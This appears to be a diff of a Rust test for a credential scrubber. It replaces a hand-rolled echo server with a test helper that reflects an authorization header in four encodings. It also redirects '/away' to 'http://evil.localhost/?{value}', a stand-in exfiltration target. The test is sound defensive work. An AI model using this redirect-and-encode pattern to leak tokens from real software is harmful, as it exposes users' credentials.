@@ -2,18 +2,12 @@
 
 mod common;
 
-use std::{
-    fs,
-    io::{BufRead, BufReader, Write},
-    net::{SocketAddr, TcpListener},
-    path::Path,
-    process::Stdio,
-    thread,
-};
+use std::{fs, io::Write, path::Path, process::Stdio};
 
 use base64::{Engine, engine::general_purpose::STANDARD};
 use common::{Ran, Spacedrive, ran};
 use ext_ops::services::http::Scrubber;
+use ext_testing::{Server, answer};
 use serde_json::json;
 use walkdir::WalkDir;
 
@@ -34,34 +28,25 @@ fn files(folder: &Path) -> Vec<Vec<u8>> {
 }
 
 /// A server that sends back what it gets as header, in four spellings; `/away` sends elsewhere.
-fn echo() -> SocketAddr {
-    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
-    let address = listener.local_addr().unwrap();
-    thread::spawn(move || {
-        for mut stream in listener.incoming().flatten() {
-            let mut reader = BufReader::new(stream.try_clone().unwrap());
-            let mut head = String::new();
-            while !head.ends_with("\r\n\r\n") && reader.read_line(&mut head).unwrap_or(0) > 0 {}
-            let line = head.lines().find_map(|line| line.strip_prefix("authorization: "));
-            let value = line.unwrap_or_default();
-            let hex: String = value.bytes().map(|byte| format!("{byte:02x}")).collect();
-            let percent: String = value.bytes().map(|byte| format!("%{byte:02X}")).collect();
-            let body = format!("{value} {} {hex} {percent}", STANDARD.encode(value));
-            let (status, away) = match head.starts_with("GET /away") {
-                true => (302, format!("location: http://evil.localhost/?{value}\r\n")),
-                false => (200, format!("x-echo: {value}\r\n")),
-            };
-            let length = body.len();
-            let head = format!("HTTP/1.1 {status} -\r\ncontent-length: {length}\r\n{away}");
-            let _ = stream.write_all(format!("{head}connection: close\r\n\r\n{body}").as_bytes());
-        }
-    });
-    address
+fn echo() -> Server {
+    Server::start(|request| {
+        let line = request.lines().find_map(|line| line.strip_prefix("authorization: "));
+        let value = line.unwrap_or_default();
+        let hex: String = value.bytes().map(|byte| format!("{byte:02x}")).collect();
+        let percent: String = value.bytes().map(|byte| format!("%{byte:02X}")).collect();
+        let body = format!("{value} {} {hex} {percent}", STANDARD.encode(value));
+        let (status, header) = match request.starts_with("GET /away") {
+            true => ("302 Found", format!("location: http://evil.localhost/?{value}\r\n")),
+            false => ("200 OK", format!("x-echo: {value}\r\n")),
+        };
+        answer(status, &header, body.as_bytes())
+    })
 }
 
 #[test]
 fn cred_19_a_key_that_is_used_stands_nowhere_in_four_encodings() {
-    let address = echo();
+    let server = echo();
+    let address = server.address();
     let origin = format!("http://api.localhost:{}", address.port());
     let (spacedrive, library) = Spacedrive::with_proxy(&[&origin]);
     let config = format!("[http]\nallow_addresses = [\"{address}\"]\n");
